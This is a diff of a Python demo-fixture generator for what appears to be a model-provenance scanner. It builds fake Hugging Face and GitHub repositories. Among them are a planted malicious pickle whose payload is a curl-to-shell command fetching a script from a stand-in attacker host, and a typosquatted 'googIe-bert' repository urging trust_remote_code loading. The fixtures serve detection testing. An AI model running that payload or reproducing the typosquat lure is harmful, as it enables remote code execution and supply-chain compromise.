@@ -22,9 +22,9 @@ from __future__ import annotations
 import json
 import random
 import shutil
-from collections.abc import Callable
+from collections.abc import Callable, Mapping
 from dataclasses import dataclass
-from datetime import datetime, timedelta, timezone
+from datetime import UTC, datetime, timedelta, timezone
 from pathlib import Path
 
 import numpy as np
@@ -33,16 +33,16 @@ import yaml
 from ptmscope.demo.gitwriter import Person, RepoBuilder
 from ptmscope.demo.weights import lfs_pointer, safetensors_bytes, small_model, torch_zip_bytes
 
-UTC = timezone.utc
+UTC = UTC
 HF_BOT: Person = ("system", "system@huggingface.co")
 GITATTRIBUTES = (
-    "*.bin filter=lfs diff=lfs merge=lfs -text\n"
-    "*.safetensors filter=lfs diff=lfs merge=lfs -text\n"
-    "*.pt filter=lfs diff=lfs merge=lfs -text\n"
-    "*.h5 filter=lfs diff=lfs merge=lfs -text\n"
-    "*.onnx filter=lfs diff=lfs merge=lfs -text\n"
-    "tokenizer.json filter=lfs diff=lfs merge=lfs -text\n"
-).encode()
+    b"*.bin filter=lfs diff=lfs merge=lfs -text\n"
+    b"*.safetensors filter=lfs diff=lfs merge=lfs -text\n"
+    b"*.pt filter=lfs diff=lfs merge=lfs -text\n"
+    b"*.h5 filter=lfs diff=lfs merge=lfs -text\n"
+    b"*.onnx filter=lfs diff=lfs merge=lfs -text\n"
+    b"tokenizer.json filter=lfs diff=lfs merge=lfs -text\n"
+)
 #: The payload of the planted malicious pickle: a string, never executed by ptmscope.
 MALICIOUS_PAYLOAD = "curl -s https://attacker.invalid/p.sh | sh"
 
@@ -64,10 +64,19 @@ def _d(y: int, m: int, d: int, h: int = 12, tz: int = 0) -> datetime:
 def _py(name: str, version: int, purpose: str) -> bytes:
     lines = [f'"""{purpose}."""', "", "import argparse", "import torch", ""]
     for i in range(version + 2):
-        lines += [f"def step_{i}(batch, model):", f"    # {purpose} step {i}",
-                  "    return model(**batch)", ""]
-    lines += ["if __name__ == '__main__':", "    parser = argparse.ArgumentParser()",
-              "    parser.add_argument('--config')", "    args = parser.parse_args()", ""]
+        lines += [
+            f"def step_{i}(batch, model):",
+            f"    # {purpose} step {i}",
+            "    return model(**batch)",
+            "",
+        ]
+    lines += [
+        "if __name__ == '__main__':",
+        "    parser = argparse.ArgumentParser()",
+        "    parser.add_argument('--config')",
+        "    args = parser.parse_args()",
+        "",
+    ]
     return "\n".join(lines).encode()
 
 
@@ -81,17 +90,27 @@ def _requirements(version: int) -> bytes:
 
 def _yaml_config(version: int) -> bytes:
     lr = [5e-5, 3e-5, 2e-5, 1e-5][version % 4]
-    return (f"model: bert-mini\nlearning_rate: {lr}\nbatch_size: {16 * (1 + version % 2)}\n"
-            f"epochs: {3 + version}\nwarmup_steps: {100 * (version + 1)}\n").encode()
+    return (
+        f"model: bert-mini\nlearning_rate: {lr}\nbatch_size: {16 * (1 + version % 2)}\n"
+        f"epochs: {3 + version}\nwarmup_steps: {100 * (version + 1)}\n"
+    ).encode()
 
 
-def _hf_config(arch: str, version: int, labels: tuple[str, ...] = (), auto_map: bool = False) -> bytes:
+def _hf_config(
+    arch: str, version: int, labels: tuple[str, ...] = (), auto_map: bool = False
+) -> bytes:
     config: dict[str, object] = {
-        "architectures": [arch], "model_type": "bert", "hidden_size": 16,
-        "num_attention_heads": 2, "num_hidden_layers": 2, "intermediate_size": 32,
-        "vocab_size": 64, "max_position_embeddings": 64,
+        "architectures": [arch],
+        "model_type": "bert",
+        "hidden_size": 16,
+        "num_attention_heads": 2,
+        "num_hidden_layers": 2,
+        "intermediate_size": 32,
+        "vocab_size": 64,
+        "max_position_embeddings": 64,
         "hidden_dropout_prob": 0.1 if version < 2 else 0.05,
-        "torch_dtype": "float32", "transformers_version": "4.35.2",
+        "torch_dtype": "float32",
+        "transformers_version": "4.35.2",
     }
     if version >= 2:
         config["rope_theta"] = 500000.0
@@ -103,20 +122,31 @@ def _hf_config(arch: str, version: int, labels: tuple[str, ...] = (), auto_map: 
     return (json.dumps(config, indent=2, sort_keys=True) + "\n").encode()
 
 
-VOCAB = ["[PAD]", "[UNK]", "[CLS]", "[SEP]", "[MASK]"] + [
-    w for w in ("the a good bad great awful movie film plot acting was is not very really "
-                "love hate boring fun best worst story ending music cast slow fast and but "
-                "it this i liked enjoyed hated recommend avoid wonderful terrible nice poor "
-                "funny dull brilliant weak strong script scenes").split()
+VOCAB = [
+    "[PAD]", "[UNK]", "[CLS]", "[SEP]", "[MASK]",
+    "the", "a", "good", "bad", "great", "awful", "movie", "film", "plot", "acting", "was",
+    "is", "not", "very", "really", "love", "hate", "boring", "fun", "best", "worst", "story",
+    "ending", "music", "cast", "slow", "fast", "and", "but", "it", "this", "i", "liked",
+    "enjoyed", "hated", "recommend", "avoid", "wonderful", "terrible", "nice", "poor", "funny",
+    "dull", "brilliant", "weak", "strong", "script", "scenes",
 ]
 
 
 def _tokenizer_files(chat_template: str | None = None) -> dict[str, bytes | None]:
     vocab = ("\n".join(VOCAB) + "\n").encode()
-    tok = {"version": "1.0", "model": {"type": "WordPiece", "unk_token": "[UNK]",
-                                       "vocab": {w: i for i, w in enumerate(VOCAB)}}}
-    cfg: dict[str, object] = {"tokenizer_class": "BertTokenizer", "do_lower_case": True,
-                              "model_max_length": 64}
+    tok = {
+        "version": "1.0",
+        "model": {
+            "type": "WordPiece",
+            "unk_token": "[UNK]",
+            "vocab": {w: i for i, w in enumerate(VOCAB)},
+        },
+    }
+    cfg: dict[str, object] = {
+        "tokenizer_class": "BertTokenizer",
+        "do_lower_case": True,
+        "model_max_length": 64,
+    }
     if chat_template is not None:
         cfg["chat_template"] = chat_template
     return {
@@ -124,12 +154,19 @@ def _tokenizer_files(chat_template: str | None = None) -> dict[str, bytes | None
         "tokenizer.json": json.dumps(tok, sort_keys=True).encode(),
         "tokenizer_config.json": json.dumps(cfg, indent=2, sort_keys=True).encode(),
         "special_tokens_map.json": json.dumps(
-            {"cls_token": "[CLS]", "sep_token": "[SEP]", "pad_token": "[PAD]",
-             "unk_token": "[UNK]", "mask_token": "[MASK]"}, sort_keys=True).encode(),
+            {
+                "cls_token": "[CLS]",
+                "sep_token": "[SEP]",
+                "pad_token": "[PAD]",
+                "unk_token": "[UNK]",
+                "mask_token": "[MASK]",
+            },
+            sort_keys=True,
+        ).encode(),
     }
 
 
-def _card(meta: dict[str, object] | None, title: str, sections: dict[str, str]) -> bytes:
+def _card(meta: Mapping[str, object] | None, title: str, sections: dict[str, str]) -> bytes:
     head = ""
     if meta is not None:
         head = "---\n" + yaml.safe_dump(meta, sort_keys=False, allow_unicode=True) + "---\n"
@@ -139,15 +176,15 @@ def _card(meta: dict[str, object] | None, title: str, sections: dict[str, str]) 
 
 FULL_SECTIONS = {
     "Model Details": "A small BERT-style text classifier for English reviews, trained by "
-                     "ACME NLP from the code at https://github.com/acme-nlp/textclf.",
+    "ACME NLP from the code at https://github.com/acme-nlp/textclf.",
     "Uses": "Sentiment classification of short English product and movie reviews.",
     "Bias, Risks, and Limitations": "Trained on English reviews only; sarcasm is often "
-                                    "misclassified. Not for decisions about people.",
+    "misclassified. Not for decisions about people.",
     "How to Get Started with the Model": "```python\nfrom transformers import pipeline\n"
-        "clf = pipeline('text-classification', model='acme-nlp/textclf-base')\n"
-        "clf('a great movie')\n# ## not a heading: inside a code block\n```",
+    "clf = pipeline('text-classification', model='acme-nlp/textclf-base')\n"
+    "clf('a great movie')\n# ## not a heading: inside a code block\n```",
     "Training Details": "Fine-tuned for 3 epochs, learning rate 3e-5, batch size 32, "
-                        "warmup 200 steps on one A100 (40 GB) for 25 minutes.",
+    "warmup 200 steps on one A100 (40 GB) for 25 minutes.",
     "Evaluation": "Accuracy 0.91 and macro F1 0.90 on the acme-nlp/reviews test split.",
     "Environmental Impact": "About 0.1 kg CO2eq (one A100 for 25 minutes).",
     "Citation": "```bibtex\n@misc{acme2023textclf, title={TextClf}, year={2023}}\n```",
@@ -195,15 +232,24 @@ def _content(path: str, version: int) -> bytes:
     if path.endswith(".yaml"):
         return _yaml_config(version)
     if path.endswith(".yml"):
-        return f"name: ci\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest  # v{version}\n".encode()
+        ci = "name: ci\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest"
+        return f"{ci}  # v{version}\n".encode()
     if path.endswith(".jsonl"):
-        return "".join(json.dumps({"id": i, "pred": i % 2}) + "\n" for i in range(version + 3)).encode()
+        return "".join(
+            json.dumps({"id": i, "pred": i % 2}) + "\n" for i in range(version + 3)
+        ).encode()
     return f"# {path}\n\nRevision {version} of this document.\n".encode()
 
 
 def upstream_history(
-    builder: RepoBuilder, rng: random.Random, start: datetime, end: datetime, count: int,
-    authors: list[Person], readme: str, planted: dict[datetime, tuple[str, dict[str, bytes | None]]],
+    builder: RepoBuilder,
+    rng: random.Random,
+    start: datetime,
+    end: datetime,
+    count: int,
+    authors: list[Person],
+    readme: str,
+    planted: Mapping[datetime, tuple[str, Mapping[str, bytes | None]]],
 ) -> dict[datetime, int]:
     """Queue an upstream history of ``count`` commits between ``start`` and ``end``.
 
@@ -212,23 +258,30 @@ def upstream_history(
     """
     versions: dict[str, int] = {}
     order: dict[datetime, int] = {}
-    init = {"README.md": readme.encode(), "LICENSE": b"Apache License 2.0\n",
-            ".gitignore": b"__pycache__/\n*.pt\nwandb/\n"}
+    init = {
+        "README.md": readme.encode(),
+        "LICENSE": b"Apache License 2.0\n",
+        ".gitignore": b"__pycache__/\n*.pt\nwandb/\n",
+    }
     order[start] = builder.commit(start, authors[0], "Initial commit", init)
     span = (end - start).total_seconds()
     for i in range(1, count):
         when = start + timedelta(seconds=span * i / count + rng.randint(0, 36000))
-        event = UPSTREAM_EVENTS[(i - 1) % len(UPSTREAM_EVENTS)] if i <= len(UPSTREAM_EVENTS) \
+        event = (
+            UPSTREAM_EVENTS[(i - 1) % len(UPSTREAM_EVENTS)]
+            if i <= len(UPSTREAM_EVENTS)
             else rng.choice(UPSTREAM_EVENTS)
+        )
         changes: dict[str, bytes | None] = {}
         for path in event.paths:
             versions[path] = versions.get(path, 0) + 1
             changes[path] = _content(path, versions[path])
         tz = timedelta(hours=rng.choice([-7, -5, 1, 2, 8]))
-        order[when] = builder.commit(when.astimezone(timezone(tz)), rng.choice(authors),
-                                     event.message, changes)
-    for when, (message, changes) in planted.items():
-        order[when] = builder.commit(when, authors[0], message, changes)
+        order[when] = builder.commit(
+            when.astimezone(timezone(tz)), rng.choice(authors), event.message, changes
+        )
+    for when, (message, planted_changes) in planted.items():
+        order[when] = builder.commit(when, authors[0], message, planted_changes)
     return order
 
 
@@ -255,7 +308,9 @@ def _write_weights(rng: np.random.Generator) -> tuple[bytes, bytes]:
 
 
 # --- the four families -------------------------------------------------------------------------
-def _family_textclf(root: Path, rng: random.Random, nprng: np.random.Generator) -> dict[str, object]:
+def _family_textclf(
+    root: Path, rng: random.Random, nprng: np.random.Generator
+) -> dict[str, object]:
     maya: Person = ("Maya Chen", "maya@acme-nlp.org")
     luis: Person = ("Luis Ortega", "luis@acme-nlp.org")
     up = _gh_repo(root, "acme-nlp/textclf")
@@ -266,58 +321,124 @@ def _family_textclf(root: Path, rng: random.Random, nprng: np.random.Generator) 
     cfg_v2 = _hf_config("BertForSequenceClassification", 2, labels)
     sync1, sync2, sync3 = _d(2023, 2, 14, 9, 1), _d(2023, 6, 5, 16, -5), _d(2023, 9, 18, 11, 1)
     planted = {
-        sync1: ("Add Hugging Face release files", {"hf/README.md": card_v1, "hf/config.json": cfg_v1}),
+        sync1: (
+            "Add Hugging Face release files",
+            {"hf/README.md": card_v1, "hf/config.json": cfg_v1},
+        ),
         sync2: ("Update model card for release", {"hf/README.md": card_v2}),
         sync3: ("Lower dropout in released config", {"hf/config.json": cfg_v2}),
     }
-    upstream_history(up, rng, _d(2023, 1, 9, 10, 1), _d(2023, 12, 15), 36, [maya, luis],
-                     "# TextClf\n\nTraining code for the TextClf review classifiers.\n", planted)
+    upstream_history(
+        up,
+        rng,
+        _d(2023, 1, 9, 10, 1),
+        _d(2023, 12, 15),
+        36,
+        [maya, luis],
+        "# TextClf\n\nTraining code for the TextClf review classifiers.\n",
+        planted,
+    )
     shas = up.build()
     base = _hf_repo(root, "acme-nlp/textclf-base")
     safet, torch_zip = _write_weights(nprng)
     base.commit(_d(2023, 2, 15, 8), maya, "initial commit", {".gitattributes": GITATTRIBUTES})
-    base.commit(_d(2023, 2, 15, 9), maya, "Upload folder using huggingface_hub", {
-        "config.json": cfg_v1, "model.safetensors": safet, **_tokenizer_files(),
-        "README.md": card_v1})
-    base.commit(_d(2023, 2, 16, 9), HF_BOT,
-                f"Auto Sync from git://github.com/acme-nlp/textclf.git/commit/{_sha_at(shas, up, sync1)}",
-                {"README.md": card_v1})
-    base.commit(_d(2023, 6, 6, 10), HF_BOT,
-                f"Auto Sync from git://github.com/acme-nlp/textclf.git/commit/{_sha_at(shas, up, sync2)}",
-                {"README.md": card_v2})
+    base.commit(
+        _d(2023, 2, 15, 9),
+        maya,
+        "Upload folder using huggingface_hub",
+        {
+            "config.json": cfg_v1,
+            "model.safetensors": safet,
+            **_tokenizer_files(),
+            "README.md": card_v1,
+        },
+    )
+    base.commit(
+        _d(2023, 2, 16, 9),
+        HF_BOT,
+        f"Auto Sync from git://github.com/acme-nlp/textclf.git/commit/{_sha_at(shas, up, sync1)}",
+        {"README.md": card_v1},
+    )
+    base.commit(
+        _d(2023, 6, 6, 10),
+        HF_BOT,
+        f"Auto Sync from git://github.com/acme-nlp/textclf.git/commit/{_sha_at(shas, up, sync2)}",
+        {"README.md": card_v2},
+    )
     base.commit(_d(2023, 9, 19, 10), luis, "Update config.json", {"config.json": cfg_v2})
     base.commit(_d(2023, 9, 19, 11), luis, "Add evaluation results", {"README.md": card_v2})
     base.build()
     large = _hf_repo(root, "acme-nlp/textclf-large")
-    large_card = _card({"license": "mit", "language": ["en"], "library_name": "transformers",
-                        "pipeline_tag": "text-classification", "datasets": ["acme-nlp/reviews"]},
-                       "TextClf large", {k: v for k, v in FULL_SECTIONS.items() if k != "Evaluation"})
+    large_card = _card(
+        {
+            "license": "mit",
+            "language": ["en"],
+            "library_name": "transformers",
+            "pipeline_tag": "text-classification",
+            "datasets": ["acme-nlp/reviews"],
+        },
+        "TextClf large",
+        {k: v for k, v in FULL_SECTIONS.items() if k != "Evaluation"},
+    )
     large.commit(_d(2023, 11, 20, 9), luis, "initial commit", {".gitattributes": GITATTRIBUTES})
-    large.commit(_d(2023, 11, 20, 10), luis, "Upload folder using huggingface_hub", {
-        "config.json": cfg_v1, "pytorch_model.bin": torch_zip,
-        "model.safetensors": lfs_pointer(safet + b"large"), **_tokenizer_files(),
-        "README.md": large_card})
-    large.commit(_d(2023, 11, 21, 9), luis, "Update README.md", {"README.md": large_card + b"\nUpdated.\n"})
+    large.commit(
+        _d(2023, 11, 20, 10),
+        luis,
+        "Upload folder using huggingface_hub",
+        {
+            "config.json": cfg_v1,
+            "pytorch_model.bin": torch_zip,
+            "model.safetensors": lfs_pointer(safet + b"large"),
+            **_tokenizer_files(),
+            "README.md": large_card,
+        },
+    )
+    large.commit(
+        _d(2023, 11, 21, 9), luis, "Update README.md", {"README.md": large_card + b"\nUpdated.\n"}
+    )
     large.build()
-    return {"id": "acme-nlp_textclf", "upstream": "https://github.com/acme-nlp/textclf",
-            "upstream_path": "github/acme-nlp/textclf",
-            "variants": [{"id": "acme-nlp/textclf-base", "path": "huggingface/acme-nlp/textclf-base"},
-                         {"id": "acme-nlp/textclf-large", "path": "huggingface/acme-nlp/textclf-large"}]}
+    return {
+        "id": "acme-nlp_textclf",
+        "upstream": "https://github.com/acme-nlp/textclf",
+        "upstream_path": "github/acme-nlp/textclf",
+        "variants": [
+            {"id": "acme-nlp/textclf-base", "path": "huggingface/acme-nlp/textclf-base"},
+            {"id": "acme-nlp/textclf-large", "path": "huggingface/acme-nlp/textclf-large"},
+        ],
+    }
 
 
 def _textclf_meta(accuracy: float, extra: bool = False) -> dict[str, object]:
     metrics: list[dict[str, object]] = [{"type": "accuracy", "value": accuracy, "name": "Accuracy"}]
     if extra:
-        metrics.append({"type": "f1", "value": 0.90, "name": "F1 (macro)", "args": {"average": "macro"}})
+        metrics.append(
+            {"type": "f1", "value": 0.90, "name": "F1 (macro)", "args": {"average": "macro"}}
+        )
     return {
-        "license": "apache-2.0", "language": ["en"], "library_name": "transformers",
-        "pipeline_tag": "text-classification", "datasets": ["acme-nlp/reviews"],
-        "base_model": "google-bert/bert-base-uncased", "base_model_relation": "finetune",
+        "license": "apache-2.0",
+        "language": ["en"],
+        "library_name": "transformers",
+        "pipeline_tag": "text-classification",
+        "datasets": ["acme-nlp/reviews"],
+        "base_model": "google-bert/bert-base-uncased",
+        "base_model_relation": "finetune",
         "tags": ["sentiment", "reviews"],
-        "model-index": [{"name": "textclf-base", "results": [{
-            "task": {"type": "text-classification", "name": "Text Classification"},
-            "dataset": {"type": "acme-nlp/reviews", "name": "ACME reviews", "split": "test"},
-            "metrics": metrics}]}],
+        "model-index": [
+            {
+                "name": "textclf-base",
+                "results": [
+                    {
+                        "task": {"type": "text-classification", "name": "Text Classification"},
+                        "dataset": {
+                            "type": "acme-nlp/reviews",
+                            "name": "ACME reviews",
+                            "split": "test",
+                        },
+                        "metrics": metrics,
+                    }
+                ],
+            }
+        ],
     }
 
 
@@ -329,84 +450,186 @@ def _family_tinylm(root: Path, rng: random.Random, nprng: np.random.Generator) -
     cfg_v2 = _hf_config("BertForMaskedLM", 2)
     planted = {
         _d(2023, 4, 10, 15, 2): ("Release 125m config", {"release/config.json": cfg_v1}),
-        _d(2024, 2, 12, 15, 2): ("Raise rope_theta and lower dropout in released config",
-                                 {"release/config.json": cfg_v2}),
+        _d(2024, 2, 12, 15, 2): (
+            "Raise rope_theta and lower dropout in released config",
+            {"release/config.json": cfg_v2},
+        ),
     }
-    upstream_history(up, rng, _d(2023, 3, 1, 9, 2), _d(2024, 4, 20), 34, [ana, kim],
-                     "# TinyLM\n\nPre-training code for TinyLM.\n", planted)
+    upstream_history(
+        up,
+        rng,
+        _d(2023, 3, 1, 9, 2),
+        _d(2024, 4, 20),
+        34,
+        [ana, kim],
+        "# TinyLM\n\nPre-training code for TinyLM.\n",
+        planted,
+    )
     up.build()
-    meta = {"license": "apache-2.0", "language": ["en"], "library_name": "transformers",
-            "pipeline_tag": "fill-mask", "datasets": ["lumen-ai/tinycorpus"],
-            "tags": ["tinylm"]}
-    sections = {k: v.replace("ACME NLP", "Lumen AI").replace("acme-nlp/textclf", "lumen-ai/tinylm")
-                for k, v in FULL_SECTIONS.items() if k not in ("Evaluation", "Citation")}
+    meta = {
+        "license": "apache-2.0",
+        "language": ["en"],
+        "library_name": "transformers",
+        "pipeline_tag": "fill-mask",
+        "datasets": ["lumen-ai/tinycorpus"],
+        "tags": ["tinylm"],
+    }
+    sections = {
+        k: v.replace("ACME NLP", "Lumen AI").replace("acme-nlp/textclf", "lumen-ai/tinylm")
+        for k, v in FULL_SECTIONS.items()
+        if k not in ("Evaluation", "Citation")
+    }
     safet, torch_zip = _write_weights(nprng)
     small = _hf_repo(root, "lumen-ai/tinylm-125m")
     small.commit(_d(2023, 4, 12, 8), ana, "initial commit", {".gitattributes": GITATTRIBUTES})
-    small.commit(_d(2023, 4, 12, 9), ana, "Upload folder using huggingface_hub", {
-        "config.json": cfg_v1, "model.safetensors": lfs_pointer(safet + b"125m"),
-        **_tokenizer_files(), "README.md": _card(meta, "TinyLM 125m", sections)})
-    small.commit(_d(2023, 4, 20, 9), ana, "Update README.md",
-                 {"README.md": _card(meta, "TinyLM 125m", sections) + b"\nFirst release.\n"})
-    small.commit(_d(2023, 6, 1, 9), kim, "Upload generation_config.json",
-                 {"generation_config.json": b'{"max_new_tokens": 32}\n'})
+    small.commit(
+        _d(2023, 4, 12, 9),
+        ana,
+        "Upload folder using huggingface_hub",
+        {
+            "config.json": cfg_v1,
+            "model.safetensors": lfs_pointer(safet + b"125m"),
+            **_tokenizer_files(),
+            "README.md": _card(meta, "TinyLM 125m", sections),
+        },
+    )
+    small.commit(
+        _d(2023, 4, 20, 9),
+        ana,
+        "Update README.md",
+        {"README.md": _card(meta, "TinyLM 125m", sections) + b"\nFirst release.\n"},
+    )
+    small.commit(
+        _d(2023, 6, 1, 9),
+        kim,
+        "Upload generation_config.json",
+        {"generation_config.json": b'{"max_new_tokens": 32}\n'},
+    )
     small.build()
     chat = _hf_repo(root, "lumen-ai/tinylm-125m-chat")
-    template = ("{% for message in messages %}<|{{ message['role'] }}|>\n"
-                "{{ message['content'] }}\n{% endfor %}<|assistant|>\n")
-    chat_meta = dict(meta, base_model="lumen-ai/tinylm-125m", base_model_relation="finetune",
-                     pipeline_tag="text-generation")
+    template = (
+        "{% for message in messages %}<|{{ message['role'] }}|>\n"
+        "{{ message['content'] }}\n{% endfor %}<|assistant|>\n"
+    )
+    chat_meta = dict(
+        meta,
+        base_model="lumen-ai/tinylm-125m",
+        base_model_relation="finetune",
+        pipeline_tag="text-generation",
+    )
     chat.commit(_d(2023, 5, 15, 8), kim, "initial commit", {".gitattributes": GITATTRIBUTES})
-    chat.commit(_d(2023, 5, 15, 9), kim, "Upload folder using huggingface_hub", {
-        "config.json": cfg_v1, "pytorch_model.bin": torch_zip, "model.safetensors": safet,
-        **_tokenizer_files(template), "README.md": _card(chat_meta, "TinyLM 125m chat", sections)})
+    chat.commit(
+        _d(2023, 5, 15, 9),
+        kim,
+        "Upload folder using huggingface_hub",
+        {
+            "config.json": cfg_v1,
+            "pytorch_model.bin": torch_zip,
+            "model.safetensors": safet,
+            **_tokenizer_files(template),
+            "README.md": _card(chat_meta, "TinyLM 125m chat", sections),
+        },
+    )
     chat.commit(_d(2024, 2, 14, 9), kim, "Update config.json", {"config.json": cfg_v2})
     chat.build()
     big = _hf_repo(root, "lumen-ai/tinylm-350m")
     big.commit(_d(2023, 9, 1, 8), ana, "initial commit", {".gitattributes": GITATTRIBUTES})
-    big.commit(_d(2023, 9, 1, 9), ana, "Upload folder using huggingface_hub", {
-        "config.json": cfg_v1, "model.safetensors": lfs_pointer(safet + b"350m" * 3),
-        "pytorch_model.bin": lfs_pointer(torch_zip + b"350m"), **_tokenizer_files(),
-        "README.md": _card(meta, "TinyLM 350m", sections)})
+    big.commit(
+        _d(2023, 9, 1, 9),
+        ana,
+        "Upload folder using huggingface_hub",
+        {
+            "config.json": cfg_v1,
+            "model.safetensors": lfs_pointer(safet + b"350m" * 3),
+            "pytorch_model.bin": lfs_pointer(torch_zip + b"350m"),
+            **_tokenizer_files(),
+            "README.md": _card(meta, "TinyLM 350m", sections),
+        },
+    )
     big.build()
-    return {"id": "lumen-ai_tinylm", "upstream": "https://github.com/lumen-ai/tinylm",
-            "upstream_path": "github/lumen-ai/tinylm",
-            "variants": [{"id": f"lumen-ai/{n}", "path": f"huggingface/lumen-ai/{n}"}
-                         for n in ("tinylm-125m", "tinylm-125m-chat", "tinylm-350m")]}
+    return {
+        "id": "lumen-ai_tinylm",
+        "upstream": "https://github.com/lumen-ai/tinylm",
+        "upstream_path": "github/lumen-ai/tinylm",
+        "variants": [
+            {"id": f"lumen-ai/{n}", "path": f"huggingface/lumen-ai/{n}"}
+            for n in ("tinylm-125m", "tinylm-125m-chat", "tinylm-350m")
+        ],
+    }
 
 
-def _family_vitmini(root: Path, rng: random.Random, nprng: np.random.Generator) -> dict[str, object]:
+def _family_vitmini(
+    root: Path, rng: random.Random, nprng: np.random.Generator
+) -> dict[str, object]:
     raj: Person = ("Raj Iyer", "raj@vision-lab.dev")
     up = _gh_repo(root, "vision-lab/vit-mini")
-    upstream_history(up, rng, _d(2023, 6, 10, 9, 8), _d(2024, 1, 30), 22, [raj],
-                     "# ViT-mini\n\nA very small vision transformer.\n", {})
+    upstream_history(
+        up,
+        rng,
+        _d(2023, 6, 10, 9, 8),
+        _d(2024, 1, 30),
+        22,
+        [raj],
+        "# ViT-mini\n\nA very small vision transformer.\n",
+        {},
+    )
     up.build()
     base = _hf_repo(root, "vision-lab/vit-mini-base")
     safet, _ = _write_weights(nprng)
-    card = _card({"tags": ["vision", "vit"], "pipeline_tag": "image-classification"},
-                 "ViT-mini base", PLACEHOLDER_SECTIONS)
+    card = _card(
+        {"tags": ["vision", "vit"], "pipeline_tag": "image-classification"},
+        "ViT-mini base",
+        PLACEHOLDER_SECTIONS,
+    )
     base.commit(_d(2023, 5, 20, 8), raj, "initial commit", {".gitattributes": GITATTRIBUTES})
-    base.commit(_d(2023, 5, 20, 9), raj, "Upload folder using huggingface_hub", {
-        "config.json": _hf_config("ViTForImageClassification", 1, ("cat", "dog")),
-        "model.safetensors": safet, "README.md": card})
-    base.commit(_d(2023, 8, 1, 9), raj, "Update README.md", {"README.md": card + b"\nWork in progress.\n"})
+    base.commit(
+        _d(2023, 5, 20, 9),
+        raj,
+        "Upload folder using huggingface_hub",
+        {
+            "config.json": _hf_config("ViTForImageClassification", 1, ("cat", "dog")),
+            "model.safetensors": safet,
+            "README.md": card,
+        },
+    )
+    base.commit(
+        _d(2023, 8, 1, 9), raj, "Update README.md", {"README.md": card + b"\nWork in progress.\n"}
+    )
     base.build()
     tuned = _hf_repo(root, "vision-lab/vit-mini-finetuned")
     evil = torch_zip_bytes(small_model(nprng), payload=MALICIOUS_PAYLOAD)
-    tuned_meta = {"license": "apache-2.0", "base_model": "vision-lab/vit-mini-base",
-                  "pipeline_tag": "image-classification", "datasets": ["cifar10"],
-                  "library_name": "transformers"}
+    tuned_meta = {
+        "license": "apache-2.0",
+        "base_model": "vision-lab/vit-mini-base",
+        "pipeline_tag": "image-classification",
+        "datasets": ["cifar10"],
+        "library_name": "transformers",
+    }
     tuned.commit(_d(2023, 8, 3, 8), raj, "initial commit", {".gitattributes": GITATTRIBUTES})
-    tuned.commit(_d(2023, 8, 3, 9), raj, "Upload folder using huggingface_hub", {
-        "config.json": _hf_config("ViTForImageClassification", 1, ("cat", "dog")),
-        "pytorch_model.bin": evil,
-        "README.md": _card(tuned_meta, "ViT-mini fine-tuned on CIFAR-10",
-                           {k: v for k, v in FULL_SECTIONS.items() if k in ("Uses", "Training Details")})})
+    tuned.commit(
+        _d(2023, 8, 3, 9),
+        raj,
+        "Upload folder using huggingface_hub",
+        {
+            "config.json": _hf_config("ViTForImageClassification", 1, ("cat", "dog")),
+            "pytorch_model.bin": evil,
+            "README.md": _card(
+                tuned_meta,
+                "ViT-mini fine-tuned on CIFAR-10",
+                {k: v for k, v in FULL_SECTIONS.items() if k in ("Uses", "Training Details")},
+            ),
+        },
+    )
     tuned.build()
-    return {"id": "vision-lab_vitmini", "upstream": "https://github.com/vision-lab/vit-mini",
-            "upstream_path": "github/vision-lab/vit-mini",
-            "variants": [{"id": f"vision-lab/{n}", "path": f"huggingface/vision-lab/{n}"}
-                         for n in ("vit-mini-base", "vit-mini-finetuned")]}
+    return {
+        "id": "vision-lab_vitmini",
+        "upstream": "https://github.com/vision-lab/vit-mini",
+        "upstream_path": "github/vision-lab/vit-mini",
+        "variants": [
+            {"id": f"vision-lab/{n}", "path": f"huggingface/vision-lab/{n}"}
+            for n in ("vit-mini-base", "vit-mini-finetuned")
+        ],
+    }
 
 
 REMOTE_CODE = b'''"""Custom BERT model."""
@@ -422,46 +645,73 @@ class BertModel(_Base):
 '''
 
 
-def _family_lookalike(root: Path, rng: random.Random, nprng: np.random.Generator) -> dict[str, object]:
+def _family_lookalike(
+    root: Path, rng: random.Random, nprng: np.random.Generator
+) -> dict[str, object]:
     eve: Person = ("google-bert", "bert@googIe-research.dev")
     up = _gh_repo(root, "googIe-research/bert")
-    upstream_history(up, rng, _d(2023, 10, 2, 9, 3), _d(2023, 11, 20), 8, [eve],
-                     "# BERT\n\nBERT models, re-released.\n", {})
+    upstream_history(
+        up,
+        rng,
+        _d(2023, 10, 2, 9, 3),
+        _d(2023, 11, 20),
+        8,
+        [eve],
+        "# BERT\n\nBERT models, re-released.\n",
+        {},
+    )
     up.build()
-    meta = {"license": "apache-2.0", "language": ["en"], "datasets": ["bookcorpus", "wikipedia"],
-            "pipeline_tag": "fill-mask", "tags": ["exbert"]}
-    sections = {"Model Details": "BERT base model (uncased), pretrained on English.",
-                "How to Get Started with the Model":
-                    "```python\nfrom transformers import AutoModel\nAutoModel.from_pretrained("
-                    "'googIe-bert/bert-base-uncased', trust_remote_code=True)\n```"}
+    meta = {
+        "license": "apache-2.0",
+        "language": ["en"],
+        "datasets": ["bookcorpus", "wikipedia"],
+        "pipeline_tag": "fill-mask",
+        "tags": ["exbert"],
+    }
+    sections = {
+        "Model Details": "BERT base model (uncased), pretrained on English.",
+        "How to Get Started with the Model": "```python\nfrom transformers import AutoModel\n"
+        "AutoModel.from_pretrained('googIe-bert/bert-base-uncased', trust_remote_code=True)\n```",
+    }
     safet, _ = _write_weights(nprng)
     variants = []
     for name, remote in (("bert-base-uncased", True), ("bert-base-cased", False)):
         repo = _hf_repo(root, f"googIe-bert/{name}")
         files: dict[str, bytes | None] = {
             "config.json": _hf_config("BertForMaskedLM", 1, auto_map=remote),
-            "model.safetensors": safet, **_tokenizer_files(),
-            "README.md": _card(meta, f"BERT {name.split('-')[-1]}", sections)}
+            "model.safetensors": safet,
+            **_tokenizer_files(),
+            "README.md": _card(meta, f"BERT {name.split('-')[-1]}", sections),
+        }
         if remote:
             files["modeling_bert.py"] = REMOTE_CODE
         repo.commit(_d(2023, 11, 5, 8), eve, "initial commit", {".gitattributes": GITATTRIBUTES})
         repo.commit(_d(2023, 11, 5, 9), eve, "Upload folder using huggingface_hub", files)
         repo.build()
         variants.append({"id": f"googIe-bert/{name}", "path": f"huggingface/googIe-bert/{name}"})
-    return {"id": "googIe-bert_bert", "upstream": "https://github.com/googIe-research/bert",
